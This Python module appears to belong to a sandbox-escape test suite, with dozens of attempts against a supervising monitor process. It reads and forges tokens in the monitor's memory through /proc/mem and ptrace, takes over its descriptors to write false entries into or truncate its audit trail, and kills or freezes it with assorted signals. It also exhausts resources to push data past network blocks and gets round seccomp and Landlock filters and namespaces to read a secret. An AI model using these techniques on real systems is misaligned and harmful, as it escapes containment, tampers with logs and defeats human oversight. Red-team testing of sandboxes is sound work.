"""The supervisor itself: its memory, its descriptors, its life, and the means of the kernel that it stands on."""
import ctypes
import fcntl
import os
import re
import resource
import signal
import socket
import struct
import subprocess
import threading
import time

from attack.files import new_mounts
from attack.raw import failed, libc, sockaddr, syscall
from attack.stage import attempt, read

libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, PEEK, SEIZE = 16, 1, 0x4206
# The words of the stage, and the hashes of the trail.
FOUND = re.compile(rb"tok-[0-9a-f]{24}|(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")


def areas(pid):
    """What of a process's memory can be read and written: (start, length)."""
    with open(f"/proc/{pid}/maps", encoding="utf-8") as lines:
        for line in lines:
            span, kind = line.split()[:2]
            if kind.startswith("rw"):
                start, end = (int(text, 16) for text in span.split("-"))
                yield start, min(end - start, 1 << 22)


def words(data):
    return b" ".join(set(FOUND.findall(data)))


# ---- its memory ----

@attempt("py-guard-memory")
def memory(stage):
    answer = b""
    file = os.open(f"/proc/{stage.supervisor}/mem", os.O_RDONLY)
    for start, length in areas(stage.supervisor):
        try:
            answer += words(os.pread(file, length, start))
        except OSError:
            continue
    return answer


@attempt("py-guard-memory-call")
def memory_call(stage):
    answer = b""
    for start, length in areas(stage.supervisor):
        data = ctypes.create_string_buffer(length)
        here = struct.pack("=QQ", ctypes.addressof(data), length)
        there = struct.pack("=QQ", start, length)
        try:
            syscall("process_vm_readv", stage.supervisor, here, 1, there, 1, 0)
        except OSError as error:
            answer += str(error).encode() if not answer else b""
            continue
        answer += words(data.raw)
    return answer


@attempt("py-guard-memory-write")
def memory_write(stage):
    # The word in its memory that its log line will carry is another one then.
    file = os.open(f"/proc/{stage.supervisor}/mem", os.O_RDWR)
    for start, length in areas(stage.supervisor):
        data = os.pread(file, length, start)
        for place in FOUND.finditer(data):
            os.pwrite(file, b"FORGED", start + place.start() + 4)
            return place.group()
    return None


@attempt("py-guard-environment")
def environment(stage):
    return words(read(f"/proc/{stage.supervisor}/environ"))


@attempt("py-guard-ptrace")
def trace(stage):
    failed(libc.ptrace(ATTACH, stage.supervisor, None, None), "ptrace")
    os.waitpid(stage.supervisor, 0x40000000)
    answer = b""
    for start, length in areas(stage.supervisor):
        # A word at a time.
        here = [libc.ptrace(PEEK, stage.supervisor, place, None) for place in range(start, start + min(length, 1 << 20), 8)]
        answer = struct.pack(f"={len(here)}q", *here)
        if FOUND.search(answer):
            break
    libc.ptrace(17, stage.supervisor, None, None)
    return words(answer) or f"traced {len(answer)} bytes"


@attempt("py-guard-seize")
def seize(stage):
    # Under a tracer that stops it, the supervisor answers nobody; and the tracer says how it goes on.
    failed(libc.ptrace(SEIZE, stage.supervisor, None, None), "ptrace")
    failed(libc.ptrace(0x4207, stage.supervisor, None, None), "interrupt")
    os.waitpid(stage.supervisor, 0x40000000)
    libc.ptrace(8, stage.supervisor, None, None)
    time.sleep(0.4)


# ---- its descriptors ----

def taken(stage):
    handle = os.pidfd_open(stage.supervisor)
    for number in range(3, 64):
        try:
            yield syscall("pidfd_getfd", handle, number, 0)
        except OSError as error:
            if error.errno != 9:
                raise


@attempt("py-guard-descriptor-trail")
def descriptor_trail(stage):
    for file in taken(stage):
        try:
            os.write(file, f"\n{stage.forged}\n".encode())
        except OSError:
            continue


@attempt("py-guard-descriptor-cut")
def descriptor_cut(stage):
    for file in taken(stage):
        try:
            os.ftruncate(file, 0)
        except OSError:
            continue


@attempt("py-guard-descriptor-read")
def descriptor_read(stage):
    answer = b""
    for file in taken(stage):
        try:
            answer += words(os.pread(file, 1 << 16, 0))
        except OSError:
            continue
    return answer


@attempt("py-guard-descriptor-proc")
def descriptor_proc(stage):
    answer = b""
    for number in range(3, 64):
        try:
            answer += words(read(f"/proc/{stage.supervisor}/fd/{number}"))
        except OSError:
            continue
    return answer


@attempt("py-guard-lock")
def lock(stage):
    # Whoever locks the trail makes the writer wait.
    for place in (stage.trail, stage.log):
        file = os.open(place, os.O_RDWR)
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        os.ftruncate(file, 0)


# ---- its life ----

def hit(name, send):
    @attempt(f"py-kill-{name}")
    def work(stage):
        send(stage)
        time.sleep(0.4)


def by_handle(stage):
    syscall("pidfd_send_signal", os.pidfd_open(stage.supervisor), signal.SIGKILL, None, 0)


def all_there_are(stage):
    # As 0 it is the own group, as -1 it is everybody who may be reached: not the judge, who is another user.
    os.setpgid(0, 0)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    os.kill(-1, signal.SIGKILL)


def by_ownership(stage):
    # The kernel sends the signal: a pipe's owner gets it when the pipe can be read.
    reading, writing = socket.socketpair()
    fcntl.fcntl(reading, fcntl.F_SETOWN, stage.supervisor)
    fcntl.fcntl(reading, 10, signal.SIGKILL)
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    writing.send(b"x")


def by_limit(stage):
    resource.prlimit(stage.supervisor, resource.RLIMIT_FSIZE, (0, 0))


def by_files(stage):
    resource.prlimit(stage.supervisor, resource.RLIMIT_NOFILE, (0, 0))


def by_memory_killer(stage):
    with open(f"/proc/{stage.supervisor}/oom_score_adj", "w", encoding="utf-8") as file:
        file.write("1000")


def by_thread(stage):
    failed(libc.tgkill(stage.supervisor, stage.supervisor, signal.SIGKILL), "tgkill")


def by_queue(stage):
    failed(libc.sigqueue(stage.supervisor, signal.SIGKILL, ctypes.c_void_p(0)), "sigqueue")


hit("kill", lambda stage: os.kill(stage.supervisor, signal.SIGKILL))
hit("stop", lambda stage: os.kill(stage.supervisor, signal.SIGSTOP))
hit("quit", lambda stage: os.kill(stage.supervisor, signal.SIGQUIT))
hit("segment", lambda stage: os.kill(stage.supervisor, signal.SIGSEGV))
hit("group", lambda stage: os.killpg(os.getpgid(stage.supervisor), signal.SIGKILL))
hit("handle", by_handle)
hit("all", all_there_are)
hit("ownership", by_ownership)
hit("thread", by_thread)
hit("queue", by_queue)
hit("file-limit", by_limit)
hit("descriptor-limit", by_files)
hit("memory-killer", by_memory_killer)
hit("processors", lambda stage: os.sched_setaffinity(stage.supervisor, {0}))
hit("schedule", lambda stage: os.sched_setscheduler(stage.supervisor, 5, os.sched_param(0)))


@attempt("py-kill-then-send")
def kill_then_send(stage):
    try:
        os.kill(stage.supervisor, signal.SIGKILL)
    finally:
        time.sleep(0.3)
        send(stage)


@attempt("py-stop-then-send")
def stop_then_send(stage):
    try:
        os.kill(stage.supervisor, signal.SIGSTOP)
    finally:
        send(stage)


def send(stage):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.sendto(stage.word, (stage.blocked4, stage.port))


# ---- more than it can hold ----

def patient(work):
    try:
        work()
    except OSError:
        return


@attempt("py-exhaust-descriptors")
def descriptors(stage):
    held = []
    try:
        while len(held) < 4000:
            held.append(os.dup(0))
    except OSError:
        held.pop()
        os.close(held.pop())
        os.close(held.pop())
    send(stage)


@attempt("py-exhaust-sockets")
def sockets(stage):
    held = []
    for _ in range(500):
        one = socket.socket()
        one.setblocking(False)
        one.connect_ex((stage.allowed4, stage.port))
        held.append(one)
    send(stage)


@attempt("py-exhaust-threads")
def threads(stage):
    # Many that ask at once, and stay.
    def work():
        with socket.socket() as one:
            one.settimeout(1)
            one.connect((stage.blocked4, stage.port))
            one.sendall(stage.word)
    all_of_them = [threading.Thread(target=patient, args=(work,)) for _ in range(100)]
    for one in all_of_them:
        one.start()
    for one in all_of_them:
        one.join(2)


@attempt("py-exhaust-processes")
def processes(stage):
    children = []
    try:
        for _ in range(150):
            pid = os.fork()
            if pid == 0:
                patient(lambda: send(stage))
                time.sleep(2)
                os._exit(0)
            children.append(pid)
    finally:
        patient(lambda: send(stage))
        for pid in children:
            os.kill(pid, signal.SIGKILL)


@attempt("py-exhaust-dead-askers")
def dead_askers(stage):
    # Each asks and is gone before it has an answer; then its number belongs to another.
    for _ in range(50):
        pid = os.fork()
        if pid == 0:
            send(stage)
            os._exit(0)
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    send(stage)


@attempt("py-exhaust-interrupted")
def interrupted(stage):
    # A signal takes the asker out of its call again and again.
    signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
    for _ in range(100):
        patient(lambda: send(stage))
    signal.setitimer(signal.ITIMER_REAL, 0)


# ---- the kernel's means ----

def filter_of(*instructions):
    code = b"".join(struct.pack("=HBBI", *instruction) for instruction in instructions)
    body = ctypes.create_string_buffer(code, len(code))
    return body, struct.pack("=H6xQ", len(instructions), ctypes.addressof(body))


@attempt("py-filter-own-listener")
def own_listener(stage):
    # A second listener would be asked first, and let everything go on.
    sendto = 44 if os.uname().machine == "x86_64" else 206
    body, program = filter_of((0x20, 0, 0, 0), (0x15, 0, 1, sendto), (6, 0, 0, 0x7FC00000), (6, 0, 0, 0x7FFF0000))
    failed(libc.prctl(38, 1, 0, 0, 0), "no new privileges")
    listener = syscall("seccomp", 1, 8, program)
    pid = os.fork()
    if pid == 0:
        send(stage)
        os._exit(0)
    notice = ctypes.create_string_buffer(80)
    failed(libc.ioctl(listener, ctypes.c_ulong(0xC0502100), notice), "receive")
    answer = ctypes.create_string_buffer(notice.raw[:8] + struct.pack("=qiI", 0, 0, 1), 24)
    failed(libc.ioctl(listener, ctypes.c_ulong(0xC0182101), answer), "send")
    os.waitpid(pid, 0)
    return f"listener {listener} {len(body)}"


@attempt("py-filter-allow")
def filter_allow(stage):
    body, program = filter_of((6, 0, 0, 0x7FFF0000))
    libc.prctl(38, 1, 0, 0, 0)
    syscall("seccomp", 1, 0, program)
    send(stage)
    return len(body)


@attempt("py-filter-trace")
def filter_trace(stage):
    # The tracer of a child changes the call after the filter has seen it, where a kernel lets it.
    sendto, getpid = 44, 39
    pid = os.fork()
    if pid == 0:
        libc.ptrace(0, 0, None, None)
        os.kill(os.getpid(), signal.SIGSTOP)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            address = sockaddr(stage.blocked4, stage.port)
            libc.syscall(getpid, one.fileno(), stage.word, len(stage.word), 0, address, len(address))
        os._exit(0)
    os.waitpid(pid, 0)
    failed(libc.ptrace(0x4200, pid, None, ctypes.c_void_p(1)), "options")
    for _ in range(2000):
        failed(libc.ptrace(24, pid, None, None), "go on")
        _, status = os.waitpid(pid, 0)
        if os.WIFEXITED(status) or os.WIFSIGNALED(status):
            return "ended"
        registers = ctypes.create_string_buffer(27 * 8)
        failed(libc.ptrace(12, pid, None, ctypes.addressof(registers)), "registers")
        fields = list(struct.unpack("=27Q", registers.raw))
        # orig_rax is the number, rdx the word's length.
        if fields[15] == getpid and fields[12] == len(stage.word):
            fields[15] = sendto
            registers.raw = struct.pack("=27Q", *fields)
            failed(libc.ptrace(13, pid, None, ctypes.addressof(registers)), "set")
    return "no end"


@attempt("py-layer-own-rules")
def own_rules(stage):
    # A rule set of its own that handles nothing but what it allows everywhere.
    attributes = struct.pack("=Q", 0xFFF)
    rules = syscall("landlock_create_ruleset", attributes, len(attributes), 0)
    beneath = struct.pack("=Qi", 0xFFF, os.open("/", os.O_PATH))
    syscall("landlock_add_rule", rules, 1, beneath, 0)
    libc.prctl(38, 1, 0, 0, 0)
    syscall("landlock_restrict_self", rules, 0)
    return read(stage.secret)


@attempt("py-layer-other-thread")
def other_thread(stage):
    # Rules are a thread's own: one that was there before would not have them.
    answers = []
    for _ in range(8):
        one = threading.Thread(target=lambda: patient(lambda: answers.append(read(stage.secret))))
        one.start()
        one.join(1)
    return b"".join(answers)


@attempt("py-layer-privileges")
def privileges(stage):
    for option, value in ((38, 0), (4, 1), (0x59616D61, -1), (22, 0), (28, 0), (8, 1)):
        libc.prctl(option, value, 0, 0, 0)
    return read(stage.secret)


@attempt("py-layer-user-namespace")
def user_namespace(stage):
    new_mounts()
    return read(stage.secret)


@attempt("py-layer-join-namespace")
def join(stage):
    try:
        libc.setns(os.pidfd_open(stage.supervisor), 0x00020000)
    finally:
        for name in ("user", "mnt", "pid"):
            patient(lambda name=name: libc.setns(os.open(f"/proc/{stage.supervisor}/ns/{name}", os.O_RDONLY), 0))
    return read(stage.secret)


@attempt("py-layer-new-network")
def new_network(stage):
    # Where loopback is a new one, what listens there is not the judge's; so the socket of before is used.
    with socket.socket() as one:
        new_mounts()
        libc.unshare(0x40000000)
        one.settimeout(1)
        one.connect((stage.blocked4, stage.port))
        one.sendall(stage.word)


@attempt("py-layer-debugger")
def debugger(stage):
    # Its own children may be traced: one that is allowed to start is made to do other things.
    child = subprocess.Popen(["cat"], stdin=subprocess.PIPE)
    failed(libc.ptrace(ATTACH, child.pid, None, None), "ptrace")
    os.waitpid(child.pid, 0x40000000)
    libc.ptrace(17, child.pid, None, None)
    child.kill()
    return read(stage.secret)


@attempt("py-later-orphan")
def orphan(stage):
    # Out of the session and the group, and longer there than whoever started it.
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1)
            patient(lambda: send(stage))
        os._exit(0)
    time.sleep(1.4)
